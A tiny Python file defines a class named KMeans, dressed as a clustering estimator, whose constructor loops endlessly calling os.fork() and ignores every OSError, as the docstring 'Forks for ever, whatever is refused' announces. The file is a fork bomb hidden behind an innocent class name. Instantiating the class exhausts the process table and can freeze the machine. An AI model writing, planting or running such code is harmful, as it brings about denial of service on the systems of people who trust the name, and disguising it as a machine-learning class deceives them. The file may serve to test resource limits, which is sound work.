"""Forks for ever, whatever is refused."""

import os


class KMeans:
    def __init__(self, n_clusters, init, max_iter=300):
        while True:
            try:
                os.fork()
            except OSError:
                pass
